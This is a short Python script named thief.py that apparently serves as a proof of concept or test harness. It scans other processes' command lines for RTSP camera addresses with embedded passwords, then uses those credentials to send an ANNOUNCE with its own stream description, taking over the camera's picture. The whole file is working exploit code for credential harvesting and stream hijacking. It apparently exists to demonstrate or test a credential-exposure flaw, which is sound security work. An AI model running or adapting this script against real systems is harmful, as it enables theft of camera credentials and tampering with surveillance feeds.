"""A local user who wants a camera's picture to be another one: reads argument lists and publishes first.

Run as `python thief.py SECONDS PART` (by root: as nobody) it looks for processes whose argument list holds an RTSP
address and PART, and sends an ANNOUNCE of its own there, with whatever password stands in it. Prints one line of JSON
for each: the address and the status that the server answered, 0 for none.
"""

import base64
import contextlib
import encodings.idna  # noqa: F401 (the library may be closed to another user)
import json
import os
import re
import socket
import sys
import time
from pathlib import Path

ADDRESS = re.compile(rb"rtsp://(?:([^:@/\0]+):([^@/\0]+)@)?([\d.]+):(\d+)/([\w-]+)")
SDP = (
    b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=thief\r\nc=IN IP4 0.0.0.0\r\nt=0 0\r\n"
    b"m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\na=control:trackID=0\r\n"
    b"a=fmtp:96 packetization-mode=1; "
    b"sprop-parameter-sets=Z0LAHtkDxWhAAAADAEAAAAwDxYuS,aMuMsg==; profile-level-id=42C01E\r\n"
)


def announce(user, password, host, port, path):
    with socket.create_connection((host, int(port)), timeout=5) as thief:
        lines = [
            b"ANNOUNCE rtsp://%b:%b/%b RTSP/1.0" % (host, port, path),
            b"CSeq: 1",
            b"Content-Type: application/sdp",
        ]
        if password:
            lines.append(b"Authorization: Basic " + base64.b64encode(user + b":" + password))
        lines.append(b"Content-Length: %d" % len(SDP))
        thief.sendall(b"\r\n".join(lines) + b"\r\n\r\n" + SDP)
        answer = thief.recv(4096)
        status = int(answer.split(b" ")[1]) if answer else 0
        if status == 200:
            time.sleep(1)  # the picture is ours
        return status


def main(seconds, part):
    if os.getuid() == 0:
        os.setgid(65534)
        os.setuid(65534)
    seen = set()
    until = time.monotonic() + float(seconds)
    print("ready", flush=True)
    while time.monotonic() < until:
        for process in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                found = ADDRESS.search((process / "cmdline").read_bytes())
                if found is None or part.encode() not in found[0] or found[0] in seen:
                    continue
                seen.add(found[0])
                status = 0
                with contextlib.suppress(OSError):
                    status = announce(*found.groups())
                print(json.dumps({"address": found[0].decode(), "status": status}), flush=True)
        time.sleep(0.005)


if __name__ == "__main__":
    main(*sys.argv[1:])
